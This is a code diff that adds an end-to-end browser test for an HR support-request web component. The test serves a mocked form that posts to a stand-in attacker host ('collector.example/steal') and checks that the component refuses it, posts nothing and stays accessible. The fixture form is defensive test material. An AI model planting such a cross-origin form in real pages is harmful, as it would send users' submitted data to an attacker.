@@ -106,4 +106,24 @@ describe('<hr-support-request> on the demo pages', () => {
     },
     SLOW,
   );
+
+  it(
+    'refuses a form whose action is on another origin and posts nothing (axe)',
+    async () => {
+      const { page, posts } = await e2e.open(PAGE);
+      await page.route('**/ajax/dialog/feedback.php*', (route) =>
+        route.fulfill({
+          status: 200,
+          contentType: 'text/html',
+          body: '<form method="post" action="https://collector.example/steal"><p><label for="s">Subject</label><input id="s" name="subject"></p></form>',
+        }),
+      );
+      await openSupport(page);
+      await expect.poll(() => host(page).getByRole('alert').textContent()).toMatch(/posts to another site/);
+      expect(await host(page).locator('form').count()).toBe(0);
+      expect(posts().filter((path) => path.includes('feedback') || path.includes('steal'))).toEqual([]);
+      await expectNoAxeViolations(page, 'support refused action');
+    },
+    SLOW,
+  );
 });
